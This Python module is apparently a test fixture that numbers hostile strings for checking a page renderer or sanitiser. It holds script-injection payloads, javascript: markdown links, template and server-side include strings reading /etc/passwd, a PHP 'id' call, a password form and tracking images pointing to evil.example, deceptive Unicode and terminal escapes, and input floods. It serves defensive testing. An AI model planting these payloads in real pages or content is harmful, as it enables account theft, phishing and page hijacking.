"""Texts that want to be more than text: each would do something if any page took it for markup, a link or a command.

Every one has a mark, by which the text itself is found again on the page.
"""

from typing import Final

_RUN: Final = "window.__pwned=1"

_MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\n>{_RUN}</script\n>",
    f"<<script>script>{_RUN}<</script>/script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password><button>Send</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<div style='background:url(javascript:{_RUN})'>",
    "<img src=https://evil.example/track.png>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<template><script>window.__pwned=1</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"</pre></code></div></article></main><script>{_RUN}</script>",
    f"'\"><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onfocus='{_RUN}' tabindex='0' autofocus x='",
    f"` onfocus=`{_RUN}` x=`",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    "{% raw %}{{ 7*7 }}{% include '/etc/passwd' %}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "<i class=\"slot-0\"></i><i class='slot-1'></i>",
    "<!--#include virtual='/etc/passwd' -->",
    "<?php system('id'); ?>",
)
_MARKDOWN: Final = (
    f"[click](javascript:{_RUN})",
    f"[click](  JaVaScRiPt:{_RUN})",
    f"[click](java\tscript:{_RUN})",
    f"[click](&#106;avascript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"[click](vbscript:{_RUN})",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    f"<javascript:{_RUN}>",
    "![x](https://evil.example/x.png)",
    f"![x](javascript:{_RUN})",
    f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
    f'[a](https://e.org "\'><img src=x onerror={_RUN}>")',
    f"[ref]\n\n[ref]: javascript:{_RUN} 'x'",
    f"```html\n<script>{_RUN}</script>\n```",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"| a |\n|--|\n| <img src=x onerror={_RUN}> |",
    f"<details><summary>x</summary>\n\n<script>{_RUN}</script>\n\n</details>",
    "[https://bank.example](https://evil.example/login)",
    "[pay here](https://аpple.com/)",
)
_CHARACTERS: Final = (
    "\u202egnp.exe\u202c hides its ending",
    "zero\u200bwidth\u200djoiner\ufeff",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1Hcursor",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[31mred without an end",
    "\x00nul\x08\x7f\x9bcontrols",
    "\ud83d lone surrogate",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "\u2028\u2029line separators",
    "\U000e0041\U000e0042 tags",
)
_FLOODS: Final = (
    "<" * 3000,
    "> " * 3000 + "deep",
    "[" * 3000,
    "*a " * 3000,
    "`" * 3001,
    "x" * 100_000,
    "| a " * 500 + "|\n" + "|--" * 500 + "|",
    "![" * 1500 + "](" * 1500,
)

ATTACKS: Final = tuple(
    (f"mark{number:03}", text) for number, text in enumerate((*_MARKUP, *_MARKDOWN, *_CHARACTERS, *_FLOODS))
)
"""Each with the word that stands behind it."""
